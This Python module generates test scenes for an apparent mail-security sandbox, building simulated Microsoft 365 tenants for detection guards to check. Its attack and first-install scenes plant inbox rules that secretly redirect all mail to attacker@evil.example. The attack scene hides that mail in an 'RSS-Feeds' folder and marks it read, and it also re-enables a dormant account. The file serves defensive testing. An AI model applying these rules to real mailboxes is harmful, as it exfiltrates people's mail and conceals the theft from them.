"""The scenes that ship with the sandbox, each a tenant in one JSON file.

`python -m sandbox.scenes.build` regenerates them in `sandbox/scenes`. A scene holds no dates:
`{"@sandbox.daysAgo": 3}` stands for a date until the scene is run.
"""

import json
from collections.abc import Callable, Mapping
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from sandbox.http_types import Row, split_words
from sandbox.scenes.neglected import add_harmless_rules, build_neglected
from sandbox.scenes.people import MailboxFixture, TenantBuilder
from sandbox.scenes.row_templates import (
    OUTBOUND_POLICY_ID,
    REMOTE_DOMAIN_ID,
    ROOMS_PRO,
    build_graph_recipient,
    build_outbound_policy,
    build_remote_domain,
)

SCENES_FOLDER = Path(__file__).parent
DAYS_AGO = "@sandbox.daysAgo"
MAX_LINE_LENGTH = 140


def resolve_dates(scene: Mapping[str, Any], now: datetime) -> dict[str, Any]:
    """Resolves the dates of a scene: `{"@sandbox.daysAgo": n}` is n days before now."""

    def made(value: Any) -> Any:
        if isinstance(value, Mapping):
            if value.keys() == {DAYS_AGO}:
                return f"{now - timedelta(days=value[DAYS_AGO]):%Y-%m-%dT%H:%M:%SZ}"
            return {name: made(part) for name, part in value.items()}
        return [made(part) for part in value] if isinstance(value, list) else value

    fresh: dict[str, Any] = made(scene)
    return fresh


# Scenes -----------------------------------------------------------------------------------------


def add_staff(builder: TenantBuilder) -> MailboxFixture:
    """Adds a small, well-kept company: a mailbox of every type. Returns the director's."""
    director = builder.add_mailbox("director", "Director")
    for alias, name in (("anna", "Anna"), ("leo", "Leo"), ("mia", "Mia"), ("tom", "Tom")):
        builder.add_mailbox(alias, name)
    builder.add_mailbox("former", "Former Employee", enabled=False)
    builder.add_mailbox("info", "Info", "SharedMailbox")
    builder.add_mailbox(
        "office", "Office", "SharedMailbox", account={"onPremisesSyncEnabled": True}
    )
    unaudited = {"AuditEnabled": False, "DefaultAuditSet": []}
    builder.add_mailbox("room-vienna", "Room Vienna", "RoomMailbox", mailbox=unaudited)
    builder.add_mailbox(
        "room-lyon", "Room Lyon", "RoomMailbox", enabled=True, product=ROOMS_PRO, mailbox=unaudited
    )
    builder.add_mailbox("van", "Van", "EquipmentMailbox", mailbox=unaudited)
    builder.add_mailbox("appointments", "Appointments", "SchedulingMailbox")
    add_harmless_rules(builder, director)
    return director


def build_healthy() -> Row:
    """A tenant without problems, so no guard reports anything."""
    cast = TenantBuilder()
    add_staff(cast)
    return {"graph": cast.build_graph(), "exchange": cast.build_exchange()}


def build_attack() -> Row:
    """A well-kept company whose director's mailbox is compromised before the third tick."""
    cast = TenantBuilder()
    director = add_staff(cast)
    feeds = cast.add_folder(director, "RSS-Feeds")
    info = next(row for row in cast.mailboxes if row["Alias"] == "info")
    lenient = cast.build_exchange(
        HostedOutboundSpamFilterPolicy=[build_outbound_policy("On")],
        RemoteDomain=[build_remote_domain(forwards=True)],
    )
    decided = {
        "guard": "tenant-baseline",
        "who": "Head of IT",
        "why": "mail of the acquired company is forwarded until it has moved",
        "until": {DAYS_AGO: -90},
    }
    exemptions = [decided | {"subject": one} for one in (OUTBOUND_POLICY_ID, REMOTE_DOMAIN_ID)]
    scene = {"exemptions": exemptions, "graph": cast.build_graph(), "exchange": lenient}
    before: Row = json.loads(json.dumps(scene))
    rule = cast.add_rule(
        director,
        ".",
        {
            "redirectTo": [build_graph_recipient("attacker@evil.example")],
            "moveToFolder": feeds,
            "markAsRead": True,
            "stopProcessingRules": True,
        },
    )
    twin = cast.exchange_rules[director.address][-1]
    account = f"/graph/users/{info['ExternalDirectoryObjectId']}"
    disabled = f"/exchange/Get-Mailbox/{info['Guid']}/AccountDisabled"
    edits = [
        {"op": "add", "path": f"/graph/messageRules/{director.id}/-", "value": rule},
        {"op": "add", "path": f"/exchange/Get-InboxRule/{director.address}/-", "value": twin},
        {"op": "set", "path": f"{account}/accountEnabled", "value": True},
        {
            "op": "set",
            "path": f"{account}/lastPasswordChangeDateTime",
            "value": {DAYS_AGO: 0},
        },
        {"op": "set", "path": disabled, "value": False},
    ]
    return before | {"ticks": [{}, {}, {"edit": edits}]}


MAILBOX_COUNT = 1050
FORWARD_COUNT = 499
HIDDEN_RULE_NUMBER = 1037
BYPASSED_NUMBER = 1042


def build_first_install() -> Row:
    """More than a page of mailboxes, 500 of which have forwarded mail outside for a long time.

    Rows hold only what is needed. The hidden rule and the bypassed account are beyond the first
    thousand rows, where a listing without paging would miss them.
    """
    cast = TenantBuilder()
    for number in range(5):
        cast.add_contact(f"branch-{number}", f"Branch {number}", f"branch-{number}@agency.example")
    cast.bypassed_names.add(f"user-{BYPASSED_NUMBER}")
    for number in range(1, MAILBOX_COUNT + 1):
        one = cast.add_mailbox(f"user-{number}", f"User {number}")
        if number == HIDDEN_RULE_NUMBER:
            stolen = {"redirectTo": [build_graph_recipient("attacker@evil.example")]}
            cast.add_rule(one, ".", stolen, hidden=True)
        if number <= FORWARD_COUNT * 2 and number % 2:
            add_forward(cast, one, number // 2)
    graph, exchange = cast.build_graph(), cast.build_exchange()
    graph["users"] = [compact_row(user, KEPT_USER_PROPERTIES) for user in graph["users"]]
    graph["messageRules"] = {owner: rules for owner, rules in cast.rules.items() if rules}
    exchange["Get-Mailbox"] = [compact_row(row, KEPT_MAILBOX_PROPERTIES) for row in cast.mailboxes]
    exchange["Get-InboxRule"] = {
        address: [compact_row(row, tuple(row)) for row in rules]
        for address, rules in cast.exchange_rules.items()
    }
    return {"graph": graph, "exchange": exchange}


KEPT_USER_PROPERTIES = split_words("id userPrincipalName accountEnabled")
KEPT_MAILBOX_PROPERTIES = split_words(
    "Guid ExternalDirectoryObjectId PrimarySmtpAddress Name RecipientTypeDetails"
    " ForwardingAddress ForwardingSmtpAddress AuditEnabled AuditLogAgeLimit DefaultAuditSet"
)


def compact_row(row: Row, names: tuple[str, ...]) -> Row:
    """A row with only a few of its properties, and without empty ones."""
    return {name: row[name] for name in names if row[name] not in (None, False)}


def add_forward(builder: TenantBuilder, mailbox: MailboxFixture, number: int) -> None:
    """Adds one of five ways to forward mail."""
    target = f"{mailbox.alias}@home.example"
    match number % 5:
        case 0:
            mailbox.mailbox["ForwardingSmtpAddress"] = f"smtp:{target}"
        case 1:
            mailbox.mailbox["ForwardingAddress"] = f"Branch {number % 4}"
        case 2:
            builder.add_rule(mailbox, "Redirect", {"redirectTo": [build_graph_recipient(target)]})
        case 3:
            builder.add_rule(mailbox, "Forward", {"forwardTo": [build_graph_recipient(target)]})
        case _:
            builder.add_rule(
                mailbox, "Attach", {"forwardAsAttachmentTo": [build_graph_recipient(target)]}
            )


def build_missing_permissions() -> Row:
    """Three problems, in a tenant where the app lacks permissions to read and to write."""
    cast = TenantBuilder()
    add_staff(cast)
    cast.add_mailbox("sales", "Sales", "SharedMailbox", enabled=True)
    cast.add_mailbox(
        "amelia", "Amelia", mailbox={"ForwardingSmtpAddress": "smtp:amelia@home.example"}
    )
    cast.add_mailbox("ben", "Ben", mailbox={"AuditEnabled": False})
    unseen = cast.add_mailbox("felix", "Felix")
    cast.add_rule(unseen, "Copy", {"forwardTo": [build_graph_recipient("felix@mail.example")]})
    return {
        "grants": {
            "graph": list(
                split_words(
                    "User.Read.All User.RevokeSessions.All AuditLog.Read.All Domain.Read.All"
                    " Mail.ReadBasic.All Group.Read.All RoleManagement.Read.Directory"
                    " GroupMember.Read.All PrivilegedEligibilitySchedule.Read.AzureADGroup"
                )
            ),
            "exchange": list(
                split_words(
                    "Get-Mailbox Get-Recipient Get-MailContact Get-MailUser Get-InboxRule"
                    " Get-AcceptedDomain Get-RemoteDomain Get-OutboundConnector"
                    " Get-InboundConnector Get-JournalRule Get-DistributionGroupMember"
                    " Get-UnifiedGroupLinks Get-TransportConfig"
                    " Get-HostedOutboundSpamFilterPolicy Get-HostedOutboundSpamFilterRule"
                    " Get-OrganizationConfig Set-OrganizationConfig Get-AdminAuditLogConfig"
                    " Set-AdminAuditLogConfig Get-MailboxAuditBypassAssociation"
                    " Set-MailboxAuditBypassAssociation Get-RoleGroup Get-RoleGroupMember Get-User"
                )
            ),
        },
        "graph": cast.build_graph(),
        "exchange": cast.build_exchange(),
    }


SCENE_BUILDERS: Mapping[str, Callable[[], Row]] = {
    "healthy": build_healthy,
    "neglected": build_neglected,
    "attack": build_attack,
    "first-install": build_first_install,
    "missing-permissions": build_missing_permissions,
}


# Writing ----------------------------------------------------------------------------------------


def format_json(value: Any, indent: str = "", prefix_length: int = 0) -> str:
    """Formats JSON: whatever fits on one line stays there, `prefix_length` columns included."""
    short = json.dumps(value, ensure_ascii=False)
    if (
        len(indent) + prefix_length + len(short) < MAX_LINE_LENGTH
        or not value
        or not isinstance(value, dict | list)
    ):
        return short
    deeper = f"{indent} "
    if isinstance(value, list):
        parts = [format_json(part, deeper) for part in value]
        left, right = "[]"
    else:
        names = [json.dumps(name, ensure_ascii=False) for name in value]
        parts = [
            f"{name}: {format_json(part, deeper, len(name) + 2)}"
            for name, part in zip(names, value.values(), strict=True)
        ]
        left, right = "{}"
    lines = ",\n".join(f"{deeper}{part}" for part in parts)
    return f"{left}\n{lines}\n{indent}{right}"


def render_scene(name: str) -> str:
    """Renders the file of a scene."""
    return format_json(SCENE_BUILDERS[name]()) + "\n"


def main() -> None:
    for name in SCENE_BUILDERS:
        (SCENES_FOLDER / f"{name}.json").write_text(render_scene(name), encoding="utf-8")


if __name__ == "__main__":
    main()
